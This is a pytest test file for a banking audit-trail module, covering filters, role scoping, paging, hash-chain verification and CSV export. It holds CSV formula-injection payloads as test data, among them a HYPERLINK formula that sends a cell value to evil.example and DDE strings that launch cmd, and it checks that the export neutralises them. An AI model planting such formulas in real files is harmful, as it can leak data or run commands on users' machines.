"""The audit trail screen's reads: filters (days in China time), scope, keyset paging,
counts, choices, the chain's status, and the CSV export (formula injection escaped,
Chinese intact, BOM, atomic)."""

from __future__ import annotations

import csv
import datetime as dt
import os
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from data import audit
from data.audit import AuditRecord
from data.audit_trail import (
    CSV_COLUMNS,
    AuditFilter,
    AuditScope,
    audit_choices,
    audit_count,
    audit_page,
    audit_sort_value,
    csv_safe,
    export_csv,
    verify_status,
)
from data.models import Branch, Staff

AUDITOR = AuditScope("AUDITOR", "H0002")
UTC = dt.UTC


def _at(y: int, m: int, d: int, hh: int, mm: int) -> dt.datetime:
    return dt.datetime(y, m, d, hh, mm, tzinfo=UTC)


def _event(db: Any, at: dt.datetime, actor: str, action: str, entity_id: str, details: Any = None) -> None:
    with db.write_session() as s:
        audit.append_many(s, [AuditRecord(actor, action, "thing", entity_id, details or {})], at=at)


@pytest.fixture
def trail(db: Any) -> Any:
    """Four events around Beijing midnight of 2026-03-02 (16:00 UTC on 03-01), one staff."""
    with db.write_session() as s:
        s.add(
            Branch(
                code="0311",
                name="石家庄分行",
                level="BRANCH",
                parent_code=None,
                updated_at=_at(2026, 1, 1, 0, 0),
            )
        )
        s.flush()
        s.add(
            Staff(
                employee_no="A0311",
                name="王审批",
                branch_code="0311",
                role="BRANCH_APPROVER",
                password_hash=None,
                updated_at=_at(2026, 1, 1, 0, 0),
            )
        )
    _event(db, _at(2026, 3, 1, 3, 0), "A0311", "REVIEW_SIGNAL", "1", {"note": "早"})
    _event(db, _at(2026, 3, 1, 15, 59), "A0311", "LOGIN", "A0311")  # 03-01 23:59 Beijing
    _event(db, _at(2026, 3, 1, 16, 0), "system", "IMPORT_BUNDLE", "7")  # 03-02 00:00 Beijing
    _event(db, _at(2026, 3, 2, 15, 59), "H0002", "REVIEW_SIGNAL", "2", {"note": "客户经营正常"})
    return db


def _ids(rows: Any) -> list[int]:
    return [r.id for r in rows]


def test_filters_by_actor_action_entity_and_text(trail: Any) -> None:
    with trail.read_session() as s:
        assert _ids(audit_page(s, AUDITOR, AuditFilter())) == [4, 3, 2, 1]
        assert _ids(audit_page(s, AUDITOR, AuditFilter(actor="A0311"))) == [2, 1]
        assert _ids(audit_page(s, AUDITOR, AuditFilter(action="REVIEW_SIGNAL"))) == [4, 1]
        assert _ids(audit_page(s, AUDITOR, AuditFilter(entity_type="thing", entity_id="7"))) == [3]
        assert _ids(audit_page(s, AUDITOR, AuditFilter(text="经营"))) == [4]
        assert _ids(audit_page(s, AUDITOR, AuditFilter(text="%"))) == []
        first = audit_page(s, AUDITOR, AuditFilter(actor="A0311"))[-1]
    assert first.actor_name == "王审批"
    assert first.details == {"note": "早"}
    assert first.details_json == '{"note":"早"}'
    assert first.prev_hash == audit.GENESIS
    assert first.at == _at(2026, 3, 1, 3, 0)


def test_days_are_inclusive_beijing_days(trail: Any) -> None:
    day1, day2 = dt.date(2026, 3, 1), dt.date(2026, 3, 2)
    with trail.read_session() as s:
        assert _ids(audit_page(s, AUDITOR, AuditFilter(time_from=day1, time_to=day1))) == [2, 1]
        assert _ids(audit_page(s, AUDITOR, AuditFilter(time_from=day2, time_to=day2))) == [4, 3]
        assert _ids(audit_page(s, AUDITOR, AuditFilter(time_from=day2))) == [4, 3]
        assert _ids(audit_page(s, AUDITOR, AuditFilter(time_to=day1))) == [2, 1]
        assert audit_count(s, AUDITOR, AuditFilter(time_from=day1, time_to=day2)) == 4


def test_only_the_trail_roles_see_the_whole_trail(trail: Any) -> None:
    with trail.read_session() as s:
        for role in ("AUDITOR", "HEAD_RISK", "ADMIN"):
            assert audit_count(s, AuditScope(role, "X"), AuditFilter()) == 4
        approver = AuditScope("BRANCH_APPROVER", "A0311")
        assert _ids(audit_page(s, approver, AuditFilter())) == [2, 1]
        assert audit_count(s, approver, AuditFilter(actor="H0002")) == 0
        choices = audit_choices(s, approver)
        assert choices.actors == (("A0311", "王审批"),)
        assert choices.actions == ("LOGIN", "REVIEW_SIGNAL")


def test_choices(trail: Any) -> None:
    with trail.read_session() as s:
        choices = audit_choices(s, AUDITOR)
    assert choices.actions == ("IMPORT_BUNDLE", "LOGIN", "REVIEW_SIGNAL")
    assert choices.entity_types == ("thing",)
    assert choices.actors == (("A0311", "王审批"), ("H0002", None), ("system", None))


@pytest.mark.parametrize(
    ("sort", "descending"),
    [("id", True), ("id", False), ("actor", True), ("action", False), ("at", True), ("entity_id", False)],
)
def test_keyset_pages_return_every_row_exactly_once(db: Any, sort: str, descending: bool) -> None:
    for i in range(23):
        _event(db, _at(2026, 3, 1 + i % 3, 0, 0), f"A{i % 4}", f"ACT{i % 5}", str(i % 6))
    seen: list[int] = []
    after = None
    with db.read_session() as s:
        while True:
            page = audit_page(
                s, AUDITOR, AuditFilter(), sort=sort, descending=descending, after=after, limit=5
            )
            seen += _ids(page)
            if len(page) < 5:
                break
            after = (audit_sort_value(page[-1], sort), page[-1].id)
        assert audit_count(s, AUDITOR, AuditFilter()) == 23
    assert sorted(seen) == list(range(1, 24))
    assert len(seen) == len(set(seen))
    if sort == "id":
        assert seen == sorted(seen, reverse=descending)


def test_unknown_sort_key_is_refused(db: Any) -> None:
    with db.read_session() as s, pytest.raises(ValueError, match="sort key"):
        audit_page(s, AUDITOR, AuditFilter(), sort="details")


def test_chain_status(trail: Any) -> None:
    with trail.read_session() as s:
        status = verify_status(s)
    assert status.ok
    assert status.intact == 4
    assert status.first_bad_id is None
    assert status.checked_at.tzinfo is not None


def test_csv_safe_follows_owasp() -> None:
    for bad in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1", "＝1", "\u3000@x"):
        assert csv_safe(bad) == "'" + bad
    for fine in ("", "abc", "客户", "1-2", "a=b", "{}", "'x"):
        assert csv_safe(fine) == fine


INJECTIONS = {
    "link": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "名称": '测试客户，"引号"',
}


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_export_escapes_formulas_and_keeps_chinese(trail: Any, tmp_path: Path) -> None:
    _event(trail, _at(2026, 3, 3, 0, 0), "=cmd|' /C calc'!A0", "@SUM", '=HYPERLINK("x")', INJECTIONS)
    _event(trail, _at(2026, 3, 3, 0, 1), "H0002", "TEST", "+1", {"v": "-2"})
    _event(trail, _at(2026, 3, 3, 0, 2), "H0002", "TEST", "-2")
    target = tmp_path / "审计.csv"
    with trail.read_session() as s:
        n = export_csv(s, AUDITOR, AuditFilter(), target, descending=False)
    assert n == 7
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = _read_csv(target)
    assert rows[0] == list(CSV_COLUMNS)
    assert [int(r[0]) for r in rows[1:]] == list(range(1, 8))
    bad = dict(zip(CSV_COLUMNS, rows[5], strict=True))
    assert bad["actor"] == "'=cmd|' /C calc'!A0"
    assert bad["action"] == "'@SUM"
    assert bad["entity_id"] == '\'=HYPERLINK("x")'
    assert '测试客户，\\"引号\\"' in bad["details"] or '测试客户，"引号"' in bad["details"]
    assert bad["details"].startswith("{")  # the details are JSON: no formula can start them
    assert dict(zip(CSV_COLUMNS, rows[6], strict=True))["entity_id"] == "'+1"
    assert dict(zip(CSV_COLUMNS, rows[7], strict=True))["entity_id"] == "'-2"
    assert dict(zip(CSV_COLUMNS, rows[4], strict=True))["details"] == '{"note":"客户经营正常"}'
    assert rows[1][CSV_COLUMNS.index("actor_name")] == "王审批"
    assert rows[1][CSV_COLUMNS.index("time_beijing")] == "2026-03-01 11:00:00"
    assert rows[1][CSV_COLUMNS.index("at_utc")] == "2026-03-01T03:00:00.000000Z"
    # no text cell of the file starts a formula
    for row in rows[1:]:
        for cell in row[1:]:
            assert not cell or cell[0] not in "=+-@\t\r"

    import pandas as pd

    frame = pd.read_csv(target, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(CSV_COLUMNS)
    assert frame.loc[4, "entity_id"] == '\'=HYPERLINK("x")'
    assert frame.loc[6, "entity_id"] == "'-2"
    assert frame.loc[0, "actor_name"] == "王审批"


def test_export_streams_every_matching_event_in_batches(db: Any, tmp_path: Path) -> None:
    for i in range(45):
        _event(db, _at(2026, 3, 1, 0, i), "A1" if i % 3 else "A2", "X", str(i))
    from data.audit_trail import iter_audit

    with db.read_session() as s:
        assert len(list(iter_audit(s, AUDITOR, AuditFilter(actor="A1"), batch=7))) == 30
        n = export_csv(
            s, AUDITOR, AuditFilter(actor="A1"), tmp_path / "a.csv", header=[c.upper() for c in CSV_COLUMNS]
        )
    rows = _read_csv(tmp_path / "a.csv")
    assert n == 30
    assert len(rows) == 31
    assert rows[0][0] == "ID"
    assert [int(r[0]) for r in rows[1:]] == sorted((int(r[0]) for r in rows[1:]), reverse=True)


def test_a_failed_export_leaves_no_file(trail: Any, tmp_path: Path) -> None:
    missing = tmp_path / "no such folder" / "a.csv"
    with trail.read_session() as s, pytest.raises(FileNotFoundError):
        export_csv(s, AUDITOR, AuditFilter(), missing)
    assert not missing.parent.exists()

    # a failure half-way (the database goes away mid-export) leaves the old file as it was
    # and no temporary file beside it
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "out.csv"
    target.write_text("old", encoding="utf-8")

    def rows() -> Any:
        with trail.read_session() as s:
            yield from audit_page(s, AUDITOR, AuditFilter(), limit=2)
        raise OSError("disk full")

    from data.audit_trail import write_csv

    with pytest.raises(OSError, match="disk full"):
        write_csv(rows(), target)
    assert target.read_text(encoding="utf-8") == "old"
    assert os.listdir(folder) == ["out.csv"]

    # the target is a folder: the temporary file was written, then could not replace it
    (folder / "a folder").mkdir()
    with trail.read_session() as s, pytest.raises((IsADirectoryError, PermissionError)):
        export_csv(s, AUDITOR, AuditFilter(), folder / "a folder")
    assert sorted(os.listdir(folder)) == ["a folder", "out.csv"]


@pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="root can write anywhere")
def test_an_unwritable_folder_leaves_no_file(trail: Any, tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with trail.read_session() as s, pytest.raises(PermissionError):
            export_csv(s, AUDITOR, AuditFilter(), folder / "a.csv")
        assert os.listdir(folder) == []
    finally:
        folder.chmod(0o700)


def test_chain_status_names_the_broken_event(trail: Any) -> None:
    with trail.write_session() as s:
        if trail.dialect == "postgresql":
            s.execute(text("DROP TRIGGER audit_events_no_update ON audit_events"))
        else:
            s.execute(text("DROP TRIGGER audit_events_no_update"))
        s.execute(text("UPDATE audit_events SET actor = 'mallory' WHERE id = 3"))
    with trail.read_session() as s:
        status = verify_status(s)
    assert not status.ok
    assert (status.first_bad_id, status.problem, status.intact) == (3, "hash", 2)
